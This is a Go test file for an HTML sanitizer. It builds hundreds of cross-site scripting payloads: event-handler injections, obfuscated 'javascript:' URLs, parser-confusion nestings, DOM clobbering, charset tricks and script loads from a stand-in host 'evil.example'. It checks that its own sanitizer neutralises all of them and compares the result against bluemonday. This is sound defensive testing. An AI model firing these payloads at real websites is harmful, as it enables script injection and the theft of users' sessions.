package markup

import (
	"fmt"
	"strings"
	"testing"

	"github.com/microcosm-cc/bluemonday"
)

// moreAttacks writes whole families out: every handler behind every separator,
// every spelling of a script's address in every attribute that takes one, every
// pair of elements that parsers read differently inside each other.
func moreAttacks() []string {
	var list []string
	add := func(format string, args ...any) { list = append(list, fmt.Sprintf(format, args...)) }
	for _, handler := range []string{"onerror", "onload", "onclick", "onmouseover", "onfocus", "onfocusin", "ontoggle", "onbegin", "onend", "onanimationstart", "onwheel",
		"onpointerrawupdate", "onscrollend", "onbeforeinput", "onformdata", "onsecuritypolicyviolation", "oncontentvisibilityautostatechange", "ONERROR", "onerror\u212a"} {
		for _, gap := range []string{" ", "/", "\t", "\n", "\f", "\r\n", "\x0b", "\u00a0", "//", "/ /", " x=\"y\"", " x='y'", " \"", " '", "=", " / ", "\x00 "} {
			add("<img src=x%s%s=alert(1)>word", gap, handler)
		}
		for _, equals := range []string{"=", " = ", "\n=\n", "=\x00", "\x0b=", "=&#10;", "&#61;"} {
			add("<p %s%salert(1)>word</p>", handler, equals)
			add("<p x=\"1\"%s%s'alert(1)'>word</p>", handler, equals)
		}
	}
	for _, script := range scriptAddresses() {
		for _, place := range []string{`<a href="%s">word</a>`, `<a href='%s'>word</a>`, `<a href=%s>word</a>`, `<a xlink:href="%s">word</a>`, `<area href="%s">word`, `<form action="%s">word</form>`,
			`<button formaction="%s">word</button>`, `<img src="%s">word`, `<img src="x" srcset="%s 1x">word`, `<img longdesc="%s">word`, `<img dynsrc="%s" lowsrc="%s">word`, `<input type=image src="%s">word`,
			`<iframe src="%s">x</iframe>word`, `<object data="%s">word</object>`, `<object><param name=src value="%s"></object>word`, `<embed src="%s">word`, `<applet code="%s">word</applet>`, `<video poster="%s">word</video>`, `<audio src="%s">word</audio>`,
			`<source src="%s">word`, `<track src="%s">word`, `<link href="%s" rel=stylesheet>word`, `<base href="%s">word`, `<body background="%s">word`, `<table background="%s"><tr><td>word</table>`, `<td background="%s">word`,
			`<blockquote cite="%s">word</blockquote>`, `<q cite="%s">word</q>`, `<ins cite="%s">word</ins>`, `<meta http-equiv=refresh content="0;url=%s">word`, `<svg><a href="%s"><text>word</text></a></svg>`, `<svg><use xlink:href="%s"/></svg>word`,
			`<svg><image href="%s"/></svg>word`, `<svg><animate xlink:href=#x attributeName=href values="%s"/></svg>word`, `<svg><set attributeName=href to="%s"/></svg>word`, `<math href="%s">word</math>`, `<math><maction actiontype="statusline#%s">word</maction></math>`,
			`<div style="background:url(%s)">word</div>`, `<div style="behavior:url(%s);-moz-binding:url(%s)">word</div>`, `<style>@import "%s";</style>word`, `<a ping="%s" href="/x">word</a>`, `<isindex action="%s">word`, `<frameset><frame src="%s"></frameset>word`,
			`<a href="//good.example/" href="%s">word</a>`, `<a data-href="%s" href='/y'>word</a>`, `<img data-src="%s">word`, `<img data-original="%s" alt="word">`, `<portal src="%s">word</portal>`, `<command icon="%s">word`, `<html manifest="%s">word`} {
			list = append(list, strings.ReplaceAll(place, "%s", script))
		}
	}
	outer := []string{"svg", "math", "table", "select", "noscript", "template", "title", "style", "textarea", "iframe", "xmp", "noembed", "noframes", "plaintext", "option", "form", "desc", "mtext", "mglyph", "annotation-xml", "foreignObject", "frameset", "p", "a", "caption", "colgroup", "button", "object", "script", "listing", "ruby"}
	for _, a := range outer {
		for _, b := range outer {
			add("<%s><%s><img src=x onerror=alert(1)>word", a, b)
			add("<%s><%s></%s><img src=x title=\"</%s><img src=x onerror=alert(1)>\">word", a, b, a, b)
			add("<math><%s><%s><!--</%s><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">", a, b, b)
			add("<svg></p><%s><%s><a title=\"</%s><img src=x onerror=alert(1)>\">word", a, b, a)
		}
	}
	return append(list, oddAttacks...)
}

// scriptAddresses are spellings that some browser once ran.
func scriptAddresses() []string {
	list := []string{"javascript:alert(1)", "JaVaScRiPt:alert(1)", "vbscript:msgbox(1)", "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=",
		"data:image/svg+xml,<svg onload=alert(1)>", "data:,x", "blob:https://x/1", "filesystem:https://x/1", "view-source:javascript:alert(1)", "jar:javascript:alert(1)!/", "feed:javascript:alert(1)", "about:blank", "file:///etc/passwd",
		"javascript://example.org/%0aalert(1)", "javascript:/*--></title></style></textarea></script>*/alert(1)", "http:javascript:alert(1)", "//javascript:alert(1)/", "\\\\javascript:alert(1)", "?javascript:alert(1)", "https:\\\\javascript:alert(1)"}
	for _, c := range []string{" ", "\t", "\n", "\r", "\f", "\x00", "\x01", "\x08", "\x0b", "\x0e", "\x1b", "\x1f", "\x7f", "\u00a0", "\u00ad", "\u1680", "\u2000", "\u2028", "\u2029", "\u200b", "\u200e", "\u3000", "\ufeff", "&#0;", "&#1;", "&#9;", "&#10;", "&#13;", "&#x0A", "&#32;", "&Tab;", "&NewLine;", "&nbsp;", "&ZeroWidthSpace;", "/", "\\", "%0A", "%09", "&", "&#"} {
		list = append(list, c+"javascript:alert(1)", "java"+c+"script:alert(1)", "javascript"+c+":alert(1)", "javascript:"+c+"alert(1)")
	}
	var decimal, hexadecimal, padded strings.Builder
	for _, c := range "javascript:alert(1)" {
		fmt.Fprintf(&decimal, "&#%d;", c)
		fmt.Fprintf(&hexadecimal, "&#x%X", c)
		fmt.Fprintf(&padded, "&#%07d", c)
	}
	return append(list, decimal.String(), hexadecimal.String(), padded.String(), "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58;alert(1)", "javascript&colon;alert(1)", "java&Tab;script&colon;alert&lpar;1&rpar;", "&amp;#106;avascript:alert(1)", "\uff4aavascript:alert(1)", "javascript\uff1aalert(1)")
}

// oddAttacks are those that fit no pattern.
var oddAttacks = []string{
	// a parser's second thoughts
	`<form><div></form><form><table><tr><td></form><form></table></form></table></div><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`,
	`<svg><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></svg>`, `<math><annotation-xml encoding="application/xhtml+xml"><xmp><img src=x onerror=alert(1)></xmp></annotation-xml></math>`,
	`<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>`, `<math><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></math>`, `<svg><title><style><a title="</style><img src=x onerror=alert(1)>"></title></svg>`,
	`<table><math><select><mo><mi><a title="</mi><img src=x onerror=alert(1)>">`, `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">`, `<p><svg><foreignObject><p><svg><title></p><img src=x onerror=alert(1)>`,
	`<b><table><b><svg><style></b></table><img src=x onerror=alert(1)>`, `<a><svg><a><desc><a href="javascript:alert(1)">word</a></desc></a></svg></a>`, `<math><mi><table><mglyph><style><![CDATA[</style><img src=x onerror=alert(1)>]]>`,
	`<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`, `<svg><p><style><g title="</style><img src=x onerror=alert(1)>">`, `<nobr><table><nobr><img src=x onerror=alert(1)>`, `<font><p><font color=x onmouseover=alert(1)>word`,
	`<br></br><script/x>alert(1)</script>`, `</p/onclick=alert(1)>word`, `</br onclick=alert(1)>word`, `<image src=x onerror=alert(1)>word`, `<body><frameset><img src=x onerror=alert(1)>`, `<html><head><title><!--</title><img src=x onerror=alert(1)>-->`,
	// comments, declarations, processing instructions
	`<!--><img src=x onerror=alert(1)>-->`, `<!---><img src=x onerror=alert(1)>-->`, `<!--!><img src=x onerror=alert(1)>--!>`, `<!-- --!><img src=x onerror=alert(1)>`, `<!-- --\x00><img src=x onerror=alert(1)>-->`, `<!<img src=x onerror=alert(1)>>`,
	`<?<img src=x onerror=alert(1)>?>`, `<?php echo "<img src=x onerror=alert(1)>" ?>`, `<%<img src=x onerror=alert(1)>%>`, `</<img src=x onerror=alert(1)>>`, `<!DOCTYPE<img src=x onerror=alert(1)>>`, `<!ENTITY x "<img src=x onerror=alert(1)>">&x;`, `<![if IE]><img src=x onerror=alert(1)><![endif]>`,
	`<!--[if IE]>--><script>alert(1)</script><!--<![endif]-->`, `<comment><img src="</comment><img src=x onerror=alert(1))//">`, `<xml><![CDATA[<img src=x onerror=alert(1)>]]></xml>`, `<?import namespace="t" implementation="#default#time2">`, `<![CDATA[<!--]]><script>alert(1)//--></script>`,
	// scripts in pieces
	`<script>alert(1)</script`, `<script`, `<script `, `<script>`, `<script/src=//evil.example>`, `<script
src=//evil.example>`, `<SCRIPT>alert(1)</SCRIPT>`, `<script x>alert(1)</script y>word`, `<sCrIpT>alert(1)</ScRiPt >word`, `<script></script><script>alert(1)</script>word`, `<script><!--<script></script>--></script>word`, `<script>/*<![CDATA[*/alert(1)/*]]>*/</script>`,
	`<scr<!---->ipt>alert(1)</script>`, `<scr\0ipt>alert(1)</scr\0ipt>`, "<\x00script>alert(1)</script>", "<s\u0000cript>alert(1)</script>", `<ſcript>alert(1)</ſcript>`, `<svg:script>alert(1)</svg:script>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>`, `<svg><script>alert&#40;1)</script></svg>`,
	`<svg><script href="data:,alert(1)"/></svg>`, `<svg><script xlink:href="//evil.example"/></svg>`, `<script type=module>import "//evil.example"</script>`, `<script language=vbscript>x</script>`, `<noscript><img src=x onerror=alert(1)></noscript>`, `<noscript><style></noscript><img src=x onerror=alert(1)>`,
	// styles
	`<style>*{x:expression(alert(1))}</style>`, `<div style="width:expression(alert(1))">word</div>`, `<div style="w\idth:e\xpression(alert(1))">word</div>`, `<div style="x:\65xpression(alert(1))">word</div>`, `<div style="position:fixed;top:0;left:0;width:100%;height:100%">word</div>`, `<link rel=import href=//evil.example>`,
	`<style>@import url(//evil.example)</style>`, `<style><!--</style><img src=x onerror=alert(1)>-->`, `<style/><img src=x onerror=alert(1)></style>`, `<p style="background:url('javascript:alert(1)')">word`, `<style>a{background:url("javascript:alert(1)")}</style>`, `<font style='color:red' face="x" size=7>word</font>`, `<b class="fixed-overlay" hidden>word</b>`,
	// names that hide a page's own, and frames within frames
	`<form id=documentElement><input name=innerHTML></form>`, `<img name=body><img name=head>`, `<a id=location href=/x name=host>word</a>`, `<iframe name=top srcdoc="&lt;script>parent.x=1&lt;/script>"></iframe>`, `<input name=nodeName form=x>`, `<object id=getElementsByTagName>word</object>`, `<embed name=querySelector>`, `<p id=x contenteditable accesskey=x tabindex=1>word</p>`,
	`<iframe srcdoc='<img src=x onerror=alert(1)>'>`, `<iframe src=x sandbox="allow-scripts">`, `<iframe/onload=alert(1)>`, `<iframe><!--</iframe><img src=x onerror=alert(1)>-->`, `<fencedframe src=//evil.example>`, `<dialog id=x><form method=dialog><button popovertarget=x>word</button></form></dialog>`, `<details><summary onclick=alert(1)>word</summary></details>`, `<marquee behavior=alternate onbounce=alert(1)>word`,
	`<a target=_top rel=opener href=https://evil.example>word</a>`, `<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `<meta http-equiv=Set-Cookie content=a=b>`, `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`, `<base target=_top>word`, `<base href="https://evil.example/"><a href="x">word</a>`, `<link rel=prerender href=//evil.example>`,
	`<custom-element is=x onclick=alert(1)>word</custom-element>`, `<p is=x slot=y part=z>word</p>`, `<template shadowrootmode=open><img src=x onerror=alert(1)></template>`, `<slot name=x><script>alert(1)</script></slot>`, `<img src=x usemap=#m><map name=m><area href="javascript:alert(1)"></map>`, `<img ismap src=x>`, `<bgsound src="javascript:alert(1)">`, `<layer src="javascript:alert(1)">word</layer>`,
	`<xss style="behavior:url(x.htc)">word</xss>`, `<t:set attributeName="innerHTML" to="&lt;img src=x onerror=alert(1)&gt;">`, `<event-source src="javascript:alert(1)">`, `<x contenteditable onblur=alert(1)>word</x>`, `<a href="https://ok.example/" onclick="alert(1)" style="x" title='"onmouseover="alert(1)'>word</a>`, "<a title='`\"onclick=alert(1)' href=/x>word</a>", "<img alt=\"``onerror=alert(1)\" src=/x>",
	// what breaks out of an attribute when it is printed again
	`<abbr title="&quot;><script>alert(1)</script>">word</abbr>`, `<abbr title='&#34; onclick=alert(1) x=&#34;'>word</abbr>`, `<img src="/x" alt="--><script>alert(1)</script>">`, `<img src='/"onerror="alert(1)'>`, `<a href='/&quot;onclick=&quot;alert(1)'>word</a>`, `<a href="/?a=<script>alert(1)</script>">word</a>`, `<time datetime='"><script>alert(1)</script>'>word</time>`,
	`<p dir='ltr" onclick="alert(1)'>word</p>`, `<p lang='en" onclick="alert(1)'>word</p>`, `<td colspan='2" onclick="alert(1)'>word`, `<ol start='1" onclick="alert(1)'><li value='2"onclick=alert(1)'>word</ol>`, `<img src=/x width='5" onerror="alert(1)' height=5>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;alert(1)`, `&#60;script&#62;alert(1)&#60;/script&#62;`, `&lt;img src=x onerror=alert(1)&gt;`, `%3Cscript%3Ealert(1)%3C/script%3E`, `\u003cscript\u003ealert(1)`,
}

// TestSanitizeFamilies holds every member of every family to the same promises,
// and counts where bluemonday keeps text that we do not.
func TestSanitizeFamilies(t *testing.T) {
	list := moreAttacks()
	ugc := bluemonday.UGCPolicy()
	lost := 0
	for _, p := range list {
		out := checkSanitized(t, p)
		if kept := PlainText(ugc.Sanitize(p)); strings.Contains(kept, "word") && !strings.Contains(PlainText(out), "word") {
			lost++
			t.Logf("bluemonday keeps %.100q of %.200q, we %.100q", kept, p, out)
		}
	}
	t.Logf("%d attacks, none executable, all balanced and stable; visible words lost that bluemonday keeps in %d", len(list), lost)
	if lost > 6 { // it reads <noscript> as code and goes on behind what others take for its end
		t.Errorf("words lost in %d", lost)
	}
}
